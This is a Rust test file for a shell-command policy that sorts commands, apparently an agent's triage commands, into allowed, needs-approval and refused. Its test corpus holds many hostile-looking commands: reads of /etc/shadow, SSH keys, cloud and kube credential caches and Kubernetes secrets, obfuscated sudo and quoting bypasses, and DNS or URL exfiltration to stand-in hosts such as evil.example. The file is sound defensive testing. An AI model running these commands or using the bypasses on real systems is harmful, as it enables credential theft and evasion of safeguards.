//! Tests of [`classify`] as a whole (the corpus, reasons, levels) and the fixtures the
//! policy's parts share in their tests.

use super::allowlist::BuiltinAllowlist;
use super::policy::{Policy, Verdict, classify};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Kind {
    Allowed,
    Approval,
    Refused,
}
use Kind::*;

pub(super) fn policy() -> Policy {
    Policy::new(
        BuiltinAllowlist::Extended,
        &["helm list".into(), "mytool /opt/data".into()],
        &["kubectl get configmap".into(), "kubectl rollout".into()],
        Some("/home/triage".into()),
        "/tmp".into(),
    )
    .with_sensitive_paths(["/etc/kube/admin.conf".to_owned()])
}

/// Every command gets a verdict of kind `want`.
pub(super) fn assert_all(p: &Policy, want: Kind, cmds: &[&str]) {
    for cmd in cmds {
        let got = classify(cmd, p);
        assert_eq!(kind(&got), want, "{cmd:?}: {got:?}");
    }
}

pub(super) fn kind(v: &Verdict) -> Kind {
    match v {
        Verdict::Allowed => Allowed,
        Verdict::NeedsApproval(_) => Approval,
        Verdict::Refused(_) => Refused,
    }
}

const CORPUS: &[(&str, Kind)] = &[
    // Allowed.
    ("kubectl get pods -n default", Allowed),
    ("kubectl logs pod-x --previous", Allowed),
    ("kubectl get pods -A | grep -v Running | head -20", Allowed),
    ("echo hello && date", Allowed),
    ("cat /var/log/syslog | tail -5", Allowed),
    ("grep -c error /var/log/app.log 2>/dev/null", Allowed),
    ("grep \"a b\" f", Allowed),
    ("grep 'a b' f | wc -l", Allowed),
    (
        "kubectl get pods -o 'jsonpath={.items[*].metadata.name}'",
        Allowed,
    ),
    (
        "kubectl describe pod x -n kube-system 2>&1 | head -50",
        Allowed,
    ),
    ("kubectl get pods -A; kubectl get nodes", Allowed),
    ("kubectl get pods\nkubectl get nodes", Allowed),
    ("ls -la /var/log >/dev/null 2>&1 || echo missing", Allowed),
    // Prints auth-provider tokens and plugin env of triage's kubeconfig.
    ("kubectl config view", Approval),
    ("kubectl config view --minify", Approval),
    ("ping -c 3 10.0.0.1", Approval),
    ("nslookup checkout.shop.svc.cluster.local", Approval),
    ("dig @203.0.113.9 c2VjcmV0", Approval),
    ("ip addr show", Allowed),
    ("helm list -A", Allowed),
    ("mytool /opt/data/config.yaml", Allowed),
    ("mytool /opt/data", Allowed),
    ("ls # list files", Allowed),
    ("echo \\$HOME", Allowed),
    ("grep -E 'error$' app.log", Allowed),
    ("grep \"error$\" app.log", Allowed),
    ("! grep -q x f", Allowed),
    ("ls ~/logs", Allowed),
    ("sort -k2 -rn f | uniq -c", Allowed),
    ("find /var/log -name '*.log' -mtime -1", Allowed),
    ("ps aux | grep kubelet", Allowed),
    ("cat /etc/passwd", Allowed),
    ("grep root /etc/passwd", Allowed),
    ("grep -e -r f", Allowed),
    ("ls 1>&2", Allowed),
    ("ls > \"/dev/null\" 2>&-", Allowed),
    ("echo '$(id)' '`id`' \"a'b\"", Allowed),
    (
        "kubectl get pods -o custom-columns=NAME:.metadata.name,STATUS:.status.phase",
        Allowed,
    ),
    (
        "kubectl get pods -o jsonpath=\"{range .items[*]}{.metadata.name}{'\\n'}{end}\"",
        Allowed,
    ),
    ("ps -ef", Allowed),
    ("ls /rootfs /etc/shadowx", Allowed),
    (
        "kubectl get pods -l app=web -o wide --sort-by=.metadata.name",
        Allowed,
    ),
    // Needs approval.
    ("rm -rf /tmp/x", Approval),
    ("kubectl delete pod x", Approval),
    ("kubectl apply -f x.yaml", Approval),
    ("curl http://x", Approval),
    ("ls /etc/*", Refused), // reaches /etc/shadow
    ("ls /etc/host*", Approval),
    ("cat /etc/*.conf", Approval),
    ("ls {a,b}", Approval),
    ("ls ~root", Approval),
    ("echo \"unterminated", Approval),
    ("ls; rm -rf /", Approval),
    ("ls || rm -rf /", Approval),
    ("kubectl get pods\nrm -rf /", Approval),
    ("echo a | tee /tmp/x", Approval),
    ("kubectl getx pods", Refused), // a `kubectl-getx` plugin
    ("kubectl -n x get pods", Approval),
    ("helm install x", Approval),
    ("mytool /opt/data/../../etc/hosts", Approval),
    ("mytool /opt/database", Approval),
    ("{ ls; } 2>/dev/null", Approval),
    ("if true; then ls; fi", Approval),
    ("[ -f /tmp/x ]", Approval),
    ("ip addr add 10.0.0.1 dev eth0", Approval),
    ("sort -o /tmp/x f", Approval),
    ("sort --out=/tmp/x f", Approval),
    ("uniq a b", Approval),
    ("date -s 2020-01-01", Approval),
    ("hostname evil", Approval),
    ("grep -r password /etc", Approval),
    ("grep -Rn x .", Approval),
    ("ss -K dst 1.2.3.4", Approval),
    ("awk '{print $1}' f", Approval),
    ("sed -n 1p f", Approval),
    ("python3 -c 'print(1)'", Approval),
    ("/usr/bin/kubectl get pods", Approval),
    // Wrappers run a command the deny entries do not see.
    ("time ls", Refused),
    ("time kubectl rollout restart deploy/x", Refused),
    ("stdbuf -o0 kubectl rollout restart deploy/x", Refused),
    ("ionice -c3 kubectl rollout restart deploy/x", Refused),
    ("watch kubectl rollout restart deploy/x", Refused),
    ("flock /tmp/l kubectl rollout restart deploy/x", Refused),
    ("ls;rm x", Approval),
    ("echo {}", Approval),
    (
        "find /etc -name shadow -print0 | sort --files0-from=-",
        Refused,
    ),
    ("kubectl get -f https://example.com/x.yaml", Approval),
    ("kubectl get pods --server=https://evil.example", Refused),
    ("kubectl get pods -s https://evil.example", Refused),
    ("cat /proc/1/env*", Refused), // reaches /proc/1/environ
    // Refused.
    ("for i in 1 2; do echo $i; done", Refused),
    ("echo $(cat /etc/passwd)", Refused),
    ("echo `id`", Refused),
    ("echo \"$(id)\"", Refused),
    ("cat <(ls)", Refused),
    ("ls >(cat)", Refused),
    ("(ls)", Refused),
    ("f() { ls; }", Refused),
    ("echo hi > /tmp/x", Refused),
    ("echo hi >> ~/.bashrc", Refused),
    ("ls &> /tmp/out", Refused),
    ("cat < /etc/passwd", Refused),
    ("cat <<EOF\nx\nEOF", Refused),
    ("cat <<< hi", Refused),
    ("FOO=bar ls", Refused),
    ("PATH=/tmp ls", Refused),
    ("export A=1", Refused),
    ("echo $HOME", Refused),
    ("echo ${PATH}", Refused),
    ("echo \"$HOME\"", Refused),
    ("echo $((1+2))", Refused),
    ("echo $'\\x41'", Refused),
    ("ls & rm x", Refused),
    ("ls &", Refused),
    ("sudo ls", Refused),
    ("/usr/bin/sudo ls", Refused),
    ("\"sudo\" ls", Refused),
    ("s\\udo ls", Refused),
    ("s{u,}do ls", Refused),
    ("bash -c 'rm -rf /'", Refused),
    ("sh -c ls", Refused),
    ("echo ls | bash", Refused),
    ("env", Refused),
    ("env ls", Refused),
    ("xargs rm", Refused),
    ("eval ls", Refused),
    ("exec ls", Refused),
    (". ./x.sh", Refused),
    ("source ./x.sh", Refused),
    ("nohup ls", Refused),
    ("timeout 5 ls", Refused),
    ("nice ls", Refused),
    ("su -", Refused),
    ("find / -name x -exec rm {} \\;", Refused),
    ("find . -delete", Refused),
    ("find . -fprint /tmp/x", Refused),
    ("kubectl get secret x -o yaml", Refused),
    ("kubectl get secrets", Refused),
    ("kubectl get secrets -A", Refused),
    ("kubectl describe secret/x", Refused),
    ("kubectl -n x get Secrets", Refused),
    ("kubectl get pods,secrets", Refused),
    ("kubectl get SECRET.v1/db -o yaml", Refused),
    ("kubectl describe secrets.v1. db", Refused),
    ("kubectl get secretproviderclasses -A", Allowed),
    ("kubectl get --raw /api/v1/namespaces/x/secrets", Refused),
    ("kubectl config view --raw", Refused),
    // `-f` after switches in one cluster still fetches a URL (or reads a file).
    ("kubectl get -Af http://evil.example/leak", Approval),
    (
        "kubectl get --raw /api/v1/namespaces/default/services/http:web:80/proxy/x",
        Approval,
    ),
    ("kubectl get --raw=/api/v1/nodes/n1/proxy/configz", Approval),
    ("kubectl get --raw /api/v1/nodes/n1/%70roxy/pods", Approval),
    ("kubectl get --raw /api/v1/namespaces/default/pods", Allowed),
    ("kubectl get pods -wf http://evil.example/leak", Approval),
    ("kubectl describe -Rf /tmp/x", Approval),
    ("kubectl get -Ak /tmp/dir", Approval),
    ("kubectl get pods -owide -A", Allowed),
    ("kubectl get pods -lapp=frontend", Allowed),
    ("kubectl config view --flatten", Refused),
    ("cat /etc/shadow", Refused),
    ("cat /etc//./shadow", Refused),
    ("cat /etc/../etc/shadow", Refused),
    ("cat ../etc/shadow", Refused),
    ("grep -f/etc/shadow x", Refused),
    ("grep --file=/etc/shadow x", Refused),
    ("cat /proc/1/environ", Refused),
    ("cat /proc/self/task/1/environ", Refused),
    ("cat /proc/1/fd/7", Refused),
    ("head -c 100 /proc/1/task/1/fd/7", Refused),
    ("cat /proc/1/map_files/7f00-7f01", Refused),
    ("cat /proc/1/status", Allowed),
    ("tail -c +4096 /proc/1/mem", Refused),
    ("cat /proc/kcore", Refused),
    ("cat /proc/self/root/etc/shadow", Refused),
    ("ls /var/run/secrets/kubernetes.io/serviceaccount", Refused),
    ("cat /run/secrets/x", Refused),
    ("ls /root", Refused),
    ("cat ~/.ssh/id_rsa", Refused),
    ("cat x/.ssh/id_rsa", Refused),
    ("cat ~/.kube/config", Refused),
    ("cat .aws/credentials", Refused),
    // Credential plugins' token caches (the cluster credentials of triage's kubeconfig).
    ("cat /home/triage/.kube/cache/oidc-login/0a1b2c", Refused),
    ("cat ~/.aws/cli/cache/0a1b2c.json", Refused),
    ("cat /home/triage/.aws/sso/cache/0a1b2c.json", Refused),
    (
        "cat ~/.config/gcloud/application_default_credentials.json",
        Refused,
    ),
    ("cat ~/.azure/msal_token_cache.json", Refused),
    ("cat ~/.docker/config.json", Refused),
    ("cat /home/triage/.netrc", Refused),
    ("cat ~/.git-credentials", Refused),
    ("ls ~/.aws/cli/cache", Refused),
    ("cat /home/triage/.config/app.conf", Allowed),
    ("cat /etc/kube/admin.conf", Refused),
    ("kubectl get configmap x -o yaml", Refused),
    ("kubectl get configmaps", Refused),
    // Short names, kinds and versioned names resolve to the same resource.
    ("kubectl get cm x -o yaml", Refused),
    ("kubectl get ConfigMap x", Refused),
    ("kubectl get configmaps.v1 x", Refused),
    ("kubectl -n x rollout restart deploy/y", Refused),
    ("kubectl rollout undo deploy/y", Refused),
    ("kubectl get secre\\\nt x", Refused),
    ("ls 2>/dev/null -la", Refused),
    ("echo a\rb", Refused),
    ("ps auxe", Refused),
    ("cat /e\\tc/sha''dow", Refused),
    ("kubectl get se\"\"crets", Refused),
    ("!ls", Approval),
    ("ls >&file", Refused),
    ("ls 2>/dev/null/x", Refused),
    ("# just a comment", Refused),
    ("ps eww 1", Refused),
    (
        "kubectl get --raw '/api/v1/namespaces/x/secret%73'",
        Refused,
    ),
    ("cat /etc/shadow-", Refused),
    ("cat /etc/shadow.bak", Refused),
    ("jq -n 'import \"/etc/shadow\" as $x; $x'", Refused),
    ("jq -n 'include \"~/.kube/config\"'", Refused),
    ("", Refused),
];

#[test]
fn corpus() {
    let policy = policy();
    assert!(CORPUS.len() >= 40);
    let mut failures = Vec::new();
    for (cmd, want) in CORPUS {
        let got = classify(cmd, &policy);
        if kind(&got) != *want {
            failures.push(format!("{cmd:?}: want {want:?}, got {got:?}"));
        }
    }
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

#[test]
fn reasons_name_the_offending_segments() {
    let p = policy();
    assert_eq!(
        classify("ls; rm -rf /", &p),
        Verdict::NeedsApproval("Segment(s) not in allow list: 'rm -rf /'".into())
    );
    assert_eq!(
        classify("rm a | kubectl rollout restart x", &p),
        Verdict::Refused("'kubectl rollout' is denied by configuration".into())
    );
    let Verdict::NeedsApproval(r) = classify("curl x && wget y", &p) else {
        panic!()
    };
    assert_eq!(r, "Segment(s) not in allow list: 'curl x', 'wget y'");
    let Verdict::Refused(r) = classify("kubectl get secrets", &p) else {
        panic!()
    };
    assert!(r.contains("Secrets"), "{r}");
    for (cmd, want) in [
        ("cat <(ls)", "process substitution"),
        ("echo $(cat /etc/passwd)", "command substitution"),
        ("echo `id`", "command substitution"),
        ("echo $HOME", "expansions"),
        ("ls 2>/dev/null -la", "analysed reliably"),
        ("kubectl get secre\\\nt x", "line continuations"),
    ] {
        let Verdict::Refused(r) = classify(cmd, &p) else {
            panic!("{cmd:?} not refused")
        };
        assert!(r.contains(want), "{cmd:?}: {r}");
    }
    let Verdict::NeedsApproval(r) = classify("echo \"x", &p) else {
        panic!()
    };
    assert!(r.contains("could not be parsed"), "{r}");
}

#[test]
fn unparseable_commands_still_get_raw_checks() {
    let p = policy();
    assert_all(
        &p,
        Refused,
        &[
            "sudo rm -rf / \"",
            "cat /etc/shadow 'x",
            "echo $(id) \"",
            "kubectl rollout restart x \"",
            "declare x \"",
            "read x 'y",
        ],
    );
}

#[test]
fn levels() {
    let core = Policy::new(BuiltinAllowlist::Core, &[], &[], None, "/tmp".into());
    assert_eq!(classify("kubectl get pods", &core), Verdict::Allowed);
    assert_eq!(kind(&classify("cat /var/log/x", &core)), Approval);
    assert_eq!(kind(&classify("ls ~", &core)), Approval, "unknown home");
    let none = Policy::new(
        BuiltinAllowlist::None,
        &["ls".into()],
        &[],
        None,
        "/".into(),
    );
    assert_eq!(kind(&classify("kubectl get pods", &none)), Approval);
    assert_eq!(classify("ls -la", &none), Verdict::Allowed);
    assert_eq!(kind(&classify("grep root f", &none)), Approval, "cwd /");
    assert_eq!(kind(&classify("cat etc/shadow", &none)), Refused, "cwd /");
}
